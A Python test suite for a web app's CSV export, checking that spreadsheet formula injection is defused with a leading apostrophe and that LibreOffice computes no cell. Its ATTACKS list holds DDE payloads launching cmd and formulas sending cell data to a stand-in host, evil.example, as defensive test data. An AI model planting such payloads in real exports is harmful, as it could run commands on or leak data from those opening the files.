"""No cell of a table that we give out is a formula, whatever somebody typed, and whichever program opens it."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.programs import CALC, find
from tests.security.payloads import PLACEHOLDERS
from webapp.renderers.csv_file import defused, original, render
from webapp.store.people import LogEvent

COMES_TO = "13370042"
FORMULA = "6685021*2"
"""What it would come to, so that nobody meets the number by chance."""
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−")
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    '"',
    "'",
    "\u00a0",
    "\u200b",
    "\u3000",
    '" ',
    "x;",
    "x,",
    "x\t",
    "x\n",
)
FORMULAS = tuple(f"{before}={FORMULA}" for before in BEFORE) + tuple(f"{sign}{FORMULA}" for sign in SIGNS[1:])
ATTACKS = (
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=IMAGE("https://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "\"=cmd|'/C calc'!A0\"",
    '=1+1";=2+2',
    'a";=6685021*2;"b',
    'a",=6685021*2,"b',
    "%0A-3+3",
    "=A1:A9",
    "={1,2}",
    "+A1",
    "-A1",
    "@A1",
    "=" + "(" * 60 + "1" + ")" * 60,
)
PAYLOADS = (*FORMULAS, *ATTACKS, *PLACEHOLDERS[:12])
HARMLESS = ("Dana Cole", "dana@example.org", "'tis", "''", "a, b; c", "Ñandú – 李", "", "7", "2026-11-26T15:30:00+00:00")
COLUMNS = 4


def read(content: bytes) -> list[list[str]]:
    """The file as a program reads it that keeps to RFC 4180."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def table():
    """Every payload in every column."""
    return [["x"] * place + [payload] + ["x"] * (COLUMNS - place - 1) for payload in PAYLOADS for place in range(COLUMNS)]


def office(folder, content, *, separator):
    """What LibreOffice shows in each cell; formulas stand there as their result."""
    find(CALC)
    (folder / "table.csv").write_bytes(content)
    profile = f"-env:UserInstallation={(folder / 'office').as_uri()}"
    # Separator, quotation mark, UTF-8, first line, columns, language, quoted as text: no; detect special numbers: yes.
    reading = f"--infilter=CSV:{ord(separator)},34,76,1,,1033,false,true,false,false"
    command = [find("soffice"), profile, "--headless", reading, "--convert-to", "fods", "--outdir", folder, "table.csv"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, timeout=300, check=False)
    made = folder / "table.fods"
    assert made.is_file(), f"{done.stdout}\n{done.stderr}"
    return made.read_text(encoding="utf-8")


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", [*FORMULAS, *ATTACKS])
def test_what_could_be_calculated_begins_with_an_apostrophe_and_can_be_had_back(payload):
    cell = defused(payload)
    assert original(cell) == payload
    if not payload.startswith(("x", "a", "%")):
        assert cell.startswith("'")


@pytest.mark.parametrize("words", HARMLESS)
def test_other_words_stay_as_they_are_but_for_an_apostrophe_of_their_own(words):
    assert defused(words) == ("'" + words if words.startswith("'") else words)
    assert original(defused(words)) == words


@given(st.text(alphabet=st.sampled_from("a1 =+-@'\";,|\t\r\n\ufeff＝\u200b"), max_size=12) | st.text(max_size=20))
def test_whatever_was_typed_can_be_had_back(typed):
    assert original(defused(typed)) == typed


def test_the_file_is_what_rfc_4180_asks_for():
    content = render(["at", "by"], [["1", 'Dana "D" Cole'], ["2", "two\nlines"]])
    assert content == '\ufeff"at","by"\r\n"1","Dana ""D"" Cole"\r\n"2","two\nlines"\r\n'.encode()


def test_every_payload_in_every_column_comes_back_to_the_letter():
    rows = table()
    read_back = read(render(["column"] * COLUMNS, rows))
    assert [[original(cell) for cell in row] for row in read_back[1:]] == rows


@pytest.mark.slow
@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_cell_is_calculated_by_a_spreadsheet(tmp_path, separator):
    shown = office(tmp_path, render(["column"] * COLUMNS, table()), separator=separator)
    assert "cmd" in shown
    assert "table:formula" not in shown
    assert COMES_TO not in shown


@pytest.mark.slow
def test_the_spreadsheet_would_calculate_them_without_the_apostrophes(tmp_path):
    """Else the test above would see nothing."""
    raw = "\r\n".join(f'"x","{payload.replace(chr(34), chr(34) * 2)}"' for payload in FORMULAS)
    assert COMES_TO in office(tmp_path, raw.encode("utf-8-sig"), separator=",")


def test_the_log_as_a_file_is_such_a_table(hosting):
    workspace = hosting.workspace()
    owner = hosting.member(workspace, "owner", name="=1+1")
    for number, payload in enumerate(PAYLOADS):
        one = payload.replace("\0", "")
        with hosting.store.write():
            hosting.store.record_log(_event(workspace, one, number))
    response = owner.get("/workspace/log.csv")
    assert response.mimetype == "text/csv"
    rows = read(response.data)[1:]
    assert len(rows) == len(PAYLOADS)
    for payload, row in zip(reversed(PAYLOADS), rows, strict=True):
        for place in (1, 2, 4, 5):
            assert original(row[place]) == payload
            assert row[place] == defused(payload)


def _event(workspace, text, number):
    at = datetime(2026, 11, 26, 15, 30, number % 60, tzinfo=UTC)
    return LogEvent(workspace, at, text, text, "invited", text, text)
